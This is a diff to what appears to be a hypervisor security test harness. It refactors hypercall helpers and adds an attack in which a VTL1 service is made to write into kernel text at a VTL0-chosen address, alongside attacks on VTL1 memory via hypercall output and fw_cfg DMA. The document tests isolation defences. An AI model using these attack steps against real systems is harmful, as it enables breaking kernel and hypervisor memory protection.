@@ -7,18 +7,12 @@ import struct
 from vtlab.client.driver import Driver
 from vtlab.client.machine import Machine
 from vtlab.client.symbols import Symbols
-from vtlab.hyperv.status import HvStatus
 from vtlab.services import Service
 from vtlab.x86.registers import Cr0
 from vtlab_attacks.evidence import Attack, Attempts, Evidence, Run, observe
+from vtlab_attacks.hypercalls import MODIFY_VTL_PROTECTION_MASK, PARTITION_SELF, REP_ONE, hypercall, hypercall_output
 from vtlab_attacks.state import PAGE, direct, memory, register, show_bytes, show_rights
 
-PARTITION_SELF = 0xFFFFFFFFFFFFFFFF
-VP_SELF = 0xFFFFFFFE
-REP_ONE = 1 << 32
-MODIFY_VTL_PROTECTION_MASK = 0x0C
-GET_VP_REGISTERS = 0x50
-VSM_CODE_PAGE_OFFSETS = 0x000D0002
 SECRET_SIZE = 32
 
 FW_CFG_DMA = 0x514
@@ -56,22 +50,8 @@ def write_secret(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence
     return observe("VTL1's memory", lambda: memory(machine, target, SECRET_SIZE), steps, symbols, show=show_bytes)
 
 
-def hypercall_output(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
-    """The hypervisor writes with all rights there are, unless it minds whose buffer it is."""
-    target, given = symbols.physical("vtl1_memory"), symbols.physical("driver_mailbox")
-    machine.write_memory(given, struct.pack("<QIB3xI", PARTITION_SELF, VP_SELF, 0, VSM_CODE_PAGE_OFFSETS))
-
-    def steps(attempts: Attempts) -> None:
-        attempts.step(lambda: attempts.note(hypercall(driver, GET_VP_REGISTERS | REP_ONE, given, target)))
-
-    return observe("VTL1's memory", lambda: memory(machine, target, SECRET_SIZE), steps, symbols, show=show_bytes)
-
-
-def hypercall(driver: Driver, control: int, given: int, wanted: int) -> str:
-    """Status of a hypercall as a denial, "" if it is success."""
-    status = driver.hypercall(control, given, wanted) & 0xFFFF
-    name = HvStatus(status).name if status in set(HvStatus) else hex(status)
-    return f"HV_STATUS_{name}" if status else ""
+def hypercall_into_secret(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    return hypercall_output("vtl1_memory", "VTL1's memory", machine, driver, symbols)
 
 
 def dma_into(target_symbol: str, what: str) -> Run:
@@ -139,6 +119,16 @@ def vmsave(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
     )
 
 
+def service_into_text(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    """VTL1 may write everywhere; CHALLENGE has it write where VTL0 says."""
+    target = symbols.physical("static_key_audit")
+
+    def steps(attempts: Attempts) -> None:
+        attempts.step(driver.vtl, Service.CHALLENGE, target)
+
+    return observe("code of static_key_audit", lambda: memory(machine, target, 8), steps, symbols, show=show_bytes)
+
+
 LAX_POLICY = b"version: 1\nname: lax\n"
 
 
@@ -163,7 +153,7 @@ ATTACKS = [
         "vtl1-hypercall-output",
         "Names VTL1's memory as the output of a hypercall",
         "TLFS, VTL memory rights",
-        hypercall_output,
+        hypercall_into_secret,
     ),
     Attack("vtl1-dma", "Has fw_cfg write VTL1's memory by DMA", BYPASS_DMA, dma_into("vtl1_memory", "VTL1's memory")),
     Attack(
@@ -192,5 +182,12 @@ ATTACKS = [
         "Heki v3 thread (Christopherson 2024): a VMCALL cannot say who may relax what",
         replace_policy,
         "VTL1 is not enabled, so there is no policy to replace",
+    ),
+    Attack(
+        "service-into-text",
+        "Has VTL1 write its answer into kernel text",
+        "litebox issue 1036 (confused deputy)",
+        service_into_text,
+        "VTL1 is not enabled, so there is no deputy",
     ),
 ]
